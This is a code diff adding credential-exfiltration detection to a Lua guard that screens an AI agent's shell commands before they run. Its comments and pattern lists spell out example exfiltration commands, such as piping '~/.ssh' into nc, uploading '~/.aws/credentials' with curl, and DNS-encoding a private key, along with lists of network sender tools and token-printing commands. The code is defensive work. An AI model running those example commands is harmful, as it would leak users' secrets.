@@ -51,6 +51,19 @@
 ---   `aws s3 rb`, `aws ... delete-*`/`terminate-*`, `gcloud ... delete`,
 ---   `az ... delete`, `docker compose down -v`, `rails db:drop`, ...).
 ---
+--- It asks (`exfiltration`: `deny`, `ask` or `off`) before a command sends
+--- the environment or credentials over the network: an environment dump
+--- (`env`, `printenv`, `export -p`, `set`, `/proc/*/environ`), a secret
+--- variable, a token printer (`gh auth token`, `gcloud auth
+--- print-access-token`, `security find-generic-password`, ...) or a
+--- credential file or directory (those protect-paths knows: `~/.ssh`,
+--- `~/.aws/credentials`, `.env`, ...) piped, redirected or substituted into
+--- a sender (`curl`, `wget`, `nc`, `ssh`, `dig`, ...), given to one as a
+--- file (`curl -F f=@~/.aws/credentials`, `scp ~/.ssh/id_rsa host:`,
+--- `rsync ~/.gnupg host:`), or posted by a one-line program. Sending a
+--- token in a header to its own service (`curl -H "Authorization: Bearer
+--- $GITHUB_TOKEN" ...`) is left alone.
+---
 --- It sees through `sudo`, `env X=1`, `nohup`, `time`, `timeout`, `xargs`,
 --- `exec`, `command`, `busybox`, `;`/`&&`/`||`/`|` chains, `$(...)`,
 --- backticks, `bash -c`/`sh -c`/`eval`/`su -c`/`watch`, `ssh host '...'`,
@@ -98,6 +111,8 @@ local SPEC = {
   extraPatterns = { "[]regex", {} },
   -- RE2 expressions: a command line that matches one is never denied by this pack (exempt wins over every rule).
   exempt = { "[]regex", {} },
+  -- What to do when a command sends the environment or credentials over the network (env | curl -d @-, tar ~/.ssh | nc, curl -F f=@~/.aws/credentials, a one-liner that posts them).
+  exfiltration = { "deny|ask|off", "ask" },
 }
 
 local P = require("monad.params").check(PACK, SPEC, params)
@@ -106,6 +121,7 @@ local P = require("monad.params").check(PACK, SPEC, params)
 -- commands of a line and the words of a string (the host shell module), the
 -- command strings of a tool input, and a command's words seen through
 -- wrappers and flags.
+local PATHS = require("monad.paths")
 local C = require("monad.commands")
 local commands, split = C.commands, C.split
 local command_texts, basename, unwrap, parse_flags = C.command_texts, C.basename, C.unwrap, C.parse_flags
@@ -451,6 +467,7 @@ local check_line    -- forward declarations
 local check_argv
 local lister_deletes
 local container_run
+local code_exfiltration
 
 local function deny(rule, detail)
   return rule, detail
@@ -1934,6 +1951,10 @@ local function check_code(lang, code, ctx)
     return deny("run-download", lang .. " code would run code it downloads, unseen")
   end
   local hcode, home = home_literals(code)
+  local xrule, xdetail = code_exfiltration(lang, hcode)
+  if xrule then
+    return xrule, xdetail
+  end
   if home and re.find(hcode, DELETE_WORD) and re.find(hcode, LIST_CALL) then
     return deny("delete-critical", lang .. " code would delete the contents of the home directory")
   end
@@ -2135,6 +2156,263 @@ H.awk = function(w, ctx)
   end
 end
 H.gawk, H.mawk, H.nawk = H.awk, H.awk, H.awk
+
+---------------------------------------------------------------------------
+-- Exfiltration: the environment or credentials sent over the network
+---------------------------------------------------------------------------
+
+-- SENDERS are the programs that send what they read, or name, to another
+-- host.
+local SENDERS = {
+  curl = true, wget = true, http = true, https = true, xh = true, nc = true, ncat = true,
+  netcat = true, socat = true, telnet = true, ftp = true, lftp = true, sftp = true, scp = true,
+  rsync = true, ssh = true, openssl = true, mail = true, mailx = true, sendmail = true,
+  mutt = true, dig = true, nslookup = true, host = true, rclone = true, aws = true,
+  gsutil = true, gh = true, smbclient = true,
+}
+
+-- SECRET_VAR names a variable that holds a secret ($GITHUB_TOKEN).
+local SECRET_VAR = [[(?i)\$\{?[A-Za-z0-9_]*(key|token|secret|passw|pwd|credential|auth)[A-Za-z0-9_]*\b]]
+
+-- secret_path says what credentials a word names (a file or a directory
+-- that holds them), or nil.
+local function secret_path(word)
+  if type(word) ~= "string" or word == "" then
+    return nil
+  end
+  local p = norm(word)
+  if p == nil then
+    return nil
+  end
+  p = string.lower(p)
+  return PATHS.secret_kind(p) or PATHS.secret_dir(p)
+end
+
+-- TOKEN_PRINTERS are commands that print a credential: the words after the
+-- program that must all be present.
+local TOKEN_PRINTERS = {
+  { "gh", "auth", "token" }, { "aws", "configure", "export-credentials" },
+  { "aws", "configure", "get" }, { "gcloud", "auth", "print-access-token" },
+  { "gcloud", "auth", "print-identity-token" }, { "gcloud", "auth", "application-default", "print-access-token" },
+  { "az", "account", "get-access-token" }, { "security", "find-generic-password" },
+  { "security", "find-internet-password" }, { "security", "dump-keychain" },
+  { "gpg", "--export-secret-keys" }, { "gpg", "--export-secret-subkeys" }, { "op", "read" },
+  { "op", "item", "get" }, { "vault", "read" }, { "vault", "kv", "get" }, { "pass", "show" },
+  { "heroku", "auth:token" }, { "doppler", "secrets" }, { "kubectl", "get", "secret" },
+  { "kubectl", "get", "secrets" }, { "npm", "token" },
+}
+
+-- source says what secret a command prints (the environment, a credential
+-- file, a token), or nil.
+local function source(w)
+  local eff = unwrap(w)
+  if #eff == 0 then
+    -- env alone (env is also a wrapper, so nothing is left of it)
+    for _, x in ipairs(w) do
+      if basename(x) == "env" then
+        return "the environment (env)"
+      end
+    end
+    return nil
+  end
+  w = eff
+  local name = basename(w[1])
+  local operands = {}
+  for k = 2, #w do
+    if string.sub(w[k], 1, 1) ~= "-" then
+      operands[#operands + 1] = w[k]
+    end
+  end
+  if (name == "env" or name == "printenv") and (#operands == 0 or (name == "printenv" and re.find("$" .. operands[1], SECRET_VAR))) then
+    return "the environment (" .. name .. ")"
+  end
+  if (name == "export" or name == "declare" or name == "typeset" or name == "set") and #operands == 0 then
+    return "the environment (" .. name .. ")"
+  end
+  if name == "echo" or name == "printf" then
+    for k = 2, #w do
+      if re.find(w[k], SECRET_VAR) then
+        return "a secret variable"
+      end
+    end
+  end
+  for _, tp in ipairs(TOKEN_PRINTERS) do
+    if name == tp[1] then
+      local all = true
+      for j = 2, #tp do
+        local seen = false
+        for k = 2, #w do
+          if w[k] == tp[j] then
+            seen = true
+          end
+        end
+        all = all and seen
+      end
+      if all then
+        return "a credential (" .. table.concat(tp, " ") .. ")"
+      end
+    end
+  end
+  for k = 2, #w do
+    local v = string.match(w[k], "^[A-Za-z-]*=(.+)$") or w[k]
+    local kind = secret_path(v)
+    if kind then
+      return kind
+    end
+  end
+  return nil
+end
+
+-- substitutions returns the texts of the command substitutions of a word
+-- ($(...) and `...`).
+local function substitutions(word)
+  local out = {}
+  local i, n = 1, string.len(word)
+  while i <= n and #out < 16 do
+    local a = string.find(word, "$(", i, true)
+    local t = string.find(word, "`", i, true)
+    if a and (t == nil or a < t) then
+      local depth, j = 1, a + 2
+      while j <= n and depth > 0 do
+        local c = string.sub(word, j, j)
+        if c == "(" then
+          depth = depth + 1
+        elseif c == ")" then
+          depth = depth - 1
+        end
+        j = j + 1
+      end
+      out[#out + 1] = string.sub(word, a + 2, j - 2)
+      i = j
+    elseif t then
+      local e = string.find(word, "`", t + 1, true) or n + 1
+      out[#out + 1] = string.sub(word, t + 1, e - 1)
+      i = e + 1
+    else
+      break
+    end
+  end
+  return out
+end
+
+-- substituted_secret says what secret the command substitutions of words
+-- print, or nil (curl -d "$(env)", dig $(cat ~/.ssh/id_rsa | base64).x).
+local function substituted_secret(words)
+  for _, word in ipairs(words) do
+    if string.find(word, "$(", 1, true) or string.find(word, "`", 1, true) then
+      for _, text in ipairs(substitutions(word)) do
+        for _, c in ipairs(commands(text)) do
+          local what = source(c.words or {})
+          if what then
+            return what
+          end
+        end
+      end
+    end
+  end
+  return nil
+end
+
+local SEND_FILE_OPTS = {
+  ["-d"] = true, ["--data"] = true, ["--data-binary"] = true, ["--data-raw"] = false,
+  ["--data-urlencode"] = true, ["-F"] = true, ["--form"] = true, ["-T"] = true,
+  ["--upload-file"] = true, ["--post-file"] = true, ["--body-file"] = true, ["--json"] = true,
+}
+
+-- sent_secret says what credentials a sender's own words send (curl -F
+-- f=@~/.aws/credentials, scp ~/.ssh/id_rsa host:, rsync ~/.gnupg host:),
+-- or nil.
+local function sent_secret(w)
+  local name = basename(w[1])
+  for k = 2, #w do
+    local a, v = w[k], nil
+    local opt, val = string.match(a, "^(%-%-[%w-]+)=(.*)$")
+    if opt and SEND_FILE_OPTS[opt] then
+      v = val
+    elseif SEND_FILE_OPTS[a] then
+      v = w[k + 1]
+    elseif string.find(a, "@", 1, true) and (name == "http" or name == "https" or name == "xh") then
+      v = a
+    end
+    if v then
+      v = re.gsub(v, "^[^=@<]*[=]?[@<]", "")
+      local kind = secret_path(v)
+      if kind then
+        return kind
+      end
+    end
+  end
+  if name == "scp" or name == "rsync" or name == "sftp" or name == "rclone" or name == "gsutil" or name == "aws" then
+    local f = parse_flags(w, 2, name == "scp" and "cFiJlloPS" or "eBfT")
+    local last = f.args[#f.args] or ""
+    if re.find(last, [[^[A-Za-z0-9_.@-]+:|^[a-z0-9]+://]]) and not re.find(last, [[^(file|\./|/)]]) then
+      for k = 1, #f.args - 1 do
+        local kind = secret_path(f.args[k])
+        if kind then
+          return kind
+        end
+      end
+    end
+  end
+  return nil
+end
+
+-- exfiltration checks a sender (words, the command's redirections and the
+-- stages of its pipeline before it) for the environment or credentials it
+-- would send.
+local function exfiltration(words, redirects, upstream)
+  if P.exfiltration == "off" then
+    return nil
+  end
+  local w = unwrap(words)
+  local name = basename(w[1])
+  if not SENDERS[name] then
+    return nil
+  end
+  local what = sent_secret(w) or substituted_secret(w)
+  if what == nil and type(redirects) == "table" then
+    for _, r in ipairs(redirects) do
+      if r.op == "<" and type(r.target) == "string" then
+        what = secret_path(r.target)
+      end
+    end
+  end
+  for k = 1, #upstream do
+    if what then
+      break
+    end
+    what = source(upstream[k]) or substituted_secret(upstream[k])
+  end
+  if what then
+    return deny("exfiltrate", name .. " would send " .. what .. " over the network")
+  end
+  return nil
+end
+
+-- CODE_NET and ENV_DUMP: a one-line program that sends the whole
+-- environment or a credential file over the network.
+local CODE_NET = [[(?i)(urlopen|urllib|requests\.(get|post|put)|httpx\.|\bfetch\s*\(|https?\.(get|request)\s*\(|\.(request|post|put)\s*\(|axios|net::http|http\.post|socket|smtplib|ftplib|file_get_contents\(\s*['"]https?://|curl|wget|sendbeacon|xmlhttprequest)]]
+local ENV_DUMP = [[(?i)(dict\(\s*os\.environ\s*\)|os\.environ\.(copy|items)\(|json\.dumps\(\s*(dict\(\s*)?os\.environ|str\(\s*os\.environ|os\.environ\s*[,)]|JSON\.stringify\(\s*process\.env\s*\)|process\.env\s*[,)}]|Object\.(entries|keys|values)\(\s*process\.env|ENV\.(to_h|to_a|to_hash|inspect)|\bENV\s*[,)]|%ENV|\$_ENV|\$_SERVER|getenv\(\s*\)|Deno\.env\.toObject|Bun\.env\s*[,)])]]
+
+-- code_exfiltration checks a one-line program (home expressions already
+-- read as '~') that talks to the network for the environment or a
+-- credential file it would send.
+code_exfiltration = function(lang, hcode)
+  if P.exfiltration == "off" or not re.find(hcode, CODE_NET) then
+    return nil
+  end
+  if re.find(hcode, ENV_DUMP) then
+    return deny("exfiltrate", lang .. " code would send the environment over the network")
+  end
+  local strs = quoted_strings(hcode)
+  for _, str in ipairs(strs) do
+    local kind = secret_path(str)
+    if kind then
+      return deny("exfiltrate", lang .. " code would send " .. kind .. " over the network")
+    end
+  end
+  return nil
+end
 
 ---------------------------------------------------------------------------
 -- Lines, pipelines and variables
@@ -2606,6 +2884,14 @@ check_line = function(line, depth)
     if rule then
       return rule, detail
     end
+    local upstream = {}
+    for k = 1, #pipeline - 1 do
+      upstream[k] = pipeline[k]
+    end
+    rule, detail = exfiltration(words, c.redirects, upstream)
+    if rule then
+      return rule, detail
+    end
     if type(c.redirects) == "table" then
       for _, r in ipairs(c.redirects) do
         local op, target = r.op or "", r.target
@@ -2674,6 +2960,9 @@ end
 for n in pairs(FETCHERS) do
   NAMES[n] = true
 end
+for n in pairs(SENDERS) do
+  NAMES[n] = true
+end
 for _, n in ipairs({
   "base64", "base32", "basenc", "xxd", "openssl", "alias", "mkfs", "python", "pypy",
   -- loops that may fork without bound, variables of the shell history
@@ -2722,6 +3011,9 @@ C.on_kind({ event = "BeforeTool", kind = "shell", matcher = P.matcher,
     for _, line in ipairs(lines) do
       if not exempt(line) and (#P.extraPatterns > 0 or triggers(line)) then
         local rule, detail = check_line(line, 0)
+        if rule == "exfiltrate" then
+          return { decision = P.exfiltration, reason = PACK .. " [" .. rule .. "]: " .. detail .. "; ask the user first" }
+        end
         if rule then
           return { decision = "deny", reason = PACK .. " [" .. rule .. "]: " .. detail .. "; if it is intended, ask the user to run it" }
         end
